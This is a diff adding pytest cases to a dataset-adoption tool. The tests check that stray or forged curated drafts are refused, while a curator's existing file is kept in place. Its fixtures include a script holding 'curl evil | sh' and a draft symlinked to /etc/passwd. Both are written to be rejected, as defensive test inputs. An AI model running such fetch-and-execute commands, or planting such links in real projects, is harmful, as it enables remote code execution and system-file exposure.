@@ -152,3 +152,74 @@ def test_a_good_artifact_is_still_adopted_after_every_check(cli, artifact, check
     assert result.exit_code == 0, result.stderr
     assert github_output.read_text() == f"commit={cd.COMMIT}\n"
     assert (tmp_path / "runner-temp" / "changelog.md").read_text(encoding="utf-8") == CHANGELOG
+
+
+# --------------------------------------------------------------------------- drafts beside the dataset
+
+
+def _with_draft(artifact: Path, *, status: str = "draft", carried: bool = True, entry_id: str | None = None,
+                where: str = "acme/widgets") -> Path:
+    """The first record drafted by ``fake-model`` as the sync writes it: its file under
+    curated/<where>/ and (``carried``) the record carrying it as machine-written."""
+    from crawler.curate.draft_all import draft_text
+    from crawler.curate.from_facts import draft_from_facts
+    from crawler.model.records import CuratedFile
+
+    first = json.loads(sorted((dataset_of(artifact) / "errors").glob("*.json"))[0].read_text(encoding="utf-8"))
+    body = draft_from_facts(first, cd.COMMIT).model_dump(mode="json")
+    body["what_it_means"] = "What a model wrote about it."
+    body["review"] = {**body["review"], "status": status, "model": "fake-model" if status == "draft" else None}
+    if entry_id is not None:
+        body["id"] = entry_id
+    entry = CuratedFile.model_validate(body)
+    if carried:
+        def carry(r: dict) -> None:
+            r["explanation_status"] = "draft"
+            r["explanation"]["what_it_means"] = "What a model wrote about it."
+            r["explanation"]["model"] = "fake-model"
+
+        forge(artifact, record=carry)
+    path = artifact / "curated" / where / f"{entry.id}.yaml"
+    path.parent.mkdir(parents=True)
+    path.write_text(draft_text(entry, first["title"]), encoding="utf-8")
+    return path
+
+
+DRAFTS: dict[str, tuple[Callable[[Path], object], str]] = {
+    "a draft of no entry of the dataset": (lambda a: _with_draft(a, carried=True, entry_id="0123456789abcdef"), "drafts no entry of the dataset"),
+    "a reviewed file posing as a draft": (lambda a: _with_draft(a, status="reviewed"), "is not a machine-written draft"),
+    "a draft the record does not carry": (lambda a: _with_draft(a, carried=False), "is not the draft the dataset's record carries"),
+    "a draft for another dataset": (lambda a: _with_draft(a, where="evil/other"), "is a draft for another dataset"),
+    "a draft that is not YAML": (lambda a: _with_draft(a).write_text("id: [unclosed\n"), "is not a curated file a crawl reads"),
+    "a draft that is a symlink": (lambda a: (lambda p: (p.unlink(), p.symlink_to("/etc/passwd")))(_with_draft(a)), "is not a regular file"),
+    "a script among the drafts": (lambda a: (_with_draft(a).parent / "run.sh").write_text("curl evil | sh\n"), "is not a file a dataset has"),
+    "a draft nested too deeply": (lambda a: _with_draft(a).write_text("what_it_means: " + "[" * 200 + "]" * 200 + "\n"),
+                                  "is not a curated file a crawl reads"),
+}
+
+
+@pytest.mark.parametrize("name", DRAFTS)
+def test_a_draft_the_dataset_does_not_carry_is_refused_and_nothing_written(cli, artifact, checkout, tmp_path, monkeypatch, name):
+    """Only the drafts the sync wrote for this dataset travel with it: anything else under
+    curated/ is refused with one line, and neither the dataset nor a curated file is written."""
+    make, words = DRAFTS[name]
+    make(artifact)
+    _refused(cli, artifact, checkout, tmp_path, monkeypatch, words)
+
+
+def test_a_draft_the_record_carries_is_taken_and_a_file_in_place_is_kept(cli, artifact, checkout, tmp_path, monkeypatch):
+    draft = _with_draft(artifact)
+    github_output = tmp_path / "github-output"
+    monkeypatch.setenv("GITHUB_OUTPUT", str(github_output))
+    result = adopt(cli, artifact, checkout, "--curated", checkout / "curated")
+    assert result.exit_code == 0, result.stderr
+    taken = checkout / "curated" / "acme" / "widgets" / draft.name
+    assert taken.read_bytes() == draft.read_bytes() and github_output.read_text() == f"commit={cd.COMMIT}\ndrafts=1\n"
+
+    # a curated text merged meanwhile is never replaced by a machine's draft
+    taken.write_text("# the curator's own\n", encoding="utf-8")
+    github_output.write_text("")
+    result = adopt(cli, artifact, checkout, "--curated", checkout / "curated")
+    assert result.exit_code == 0, result.stderr
+    assert taken.read_text(encoding="utf-8") == "# the curator's own\n" and github_output.read_text() == f"commit={cd.COMMIT}\n"
+    assert "a file is there" in result.stderr
